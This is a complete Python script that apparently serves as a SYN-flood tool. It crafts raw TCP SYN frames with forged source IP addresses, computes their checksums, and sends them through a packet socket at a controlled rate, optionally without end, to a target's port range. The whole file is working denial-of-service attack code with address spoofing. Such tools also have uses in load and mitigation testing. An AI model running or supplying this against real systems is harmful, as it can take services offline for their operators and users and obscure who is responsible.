#!/usr/bin/env python3
"""Sends TCP SYNs from forged sources at an even pace through a packet socket.

    flood.py INTERFACE SOURCE_MAC DESTINATION_MAC DESTINATION PER_SECOND SECONDS [FIRST_PORT LAST_PORT [PROBES]]

The sources are 11.0.0.0 and the addresses after it, a new one for each SYN, or after PROBES of them. All frames are made before the first is
sent. SECONDS may be Infinity: then the frames of three seconds are sent again and again. Prints "ready", and at the end
how many frames were sent and in what time.
"""
import itertools
import math
import socket
import struct
import sys
import time

FIRST_SOURCE = 11 << 24
BURSTS_PER_SECOND = 500


def main():
    interface, source_mac, destination_mac, destination = sys.argv[1:5]
    per_second, seconds = int(sys.argv[5]), float(sys.argv[6])
    first_port, last_port = (int(port) for port in sys.argv[7:9] or (1, 1000))
    probes = int((sys.argv[9:10] or [1])[0])
    ethernet = mac(destination_mac) + mac(source_mac) + b'\x08\x00'
    target = struct.unpack('!I', socket.inet_aton(destination))[0]
    is_endless = math.isinf(seconds)
    count = int(per_second * (3 if is_endless else seconds))
    ports = last_port - first_port + 1
    frames = [ethernet + syn(FIRST_SOURCE + i // probes, target, 1024 + i % 60000, first_port + i % ports) for i in range(count)]
    print('ready', flush=True)
    starts = itertools.count if is_endless else lambda start, step: range(start, count, step)
    took = send(interface, frames, per_second, starts)
    print(f'sent {count} frames in {took:.3f} s', flush=True)


def send(interface, frames, per_second, starts):
    """Sends bursts on a fixed timetable. After a late burst the next ones catch up."""
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((interface, 0))
    burst = max(1, per_second // BURSTS_PER_SECOND)
    start = time.monotonic()
    for sent in starts(0, burst):
        wait = start + sent / per_second - time.monotonic()
        if wait > 0:
            time.sleep(wait)
        first = sent % len(frames)
        for frame in frames[first:first + burst]:
            link.send(frame)
    return time.monotonic() - start


def syn(source, destination, source_port, destination_port):
    header = struct.pack('!HHHHHHII', 0x4500, 40, source & 0xffff, 0, 0x4006, 0, source, destination)
    segment = struct.pack('!HHIIHHHH', source_port, destination_port, source, 0, 0x5002, 1024, 0, 0)
    pseudo = struct.pack('!IIHH', source, destination, 6, len(segment))
    return with_sum(header, 10, header) + with_sum(segment, 16, pseudo + segment)


def with_sum(octets, offset, covered):
    """RFC 1071 over `covered`, put into `octets`."""
    total = sum(struct.unpack(f'!{len(covered) // 2}H', covered))
    total = (total & 0xffff) + (total >> 16)
    total = (total & 0xffff) + (total >> 16)
    return octets[:offset] + struct.pack('!H', ~total & 0xffff) + octets[offset + 2:]


def mac(text):
    return bytes.fromhex(text.replace(':', ''))


main()
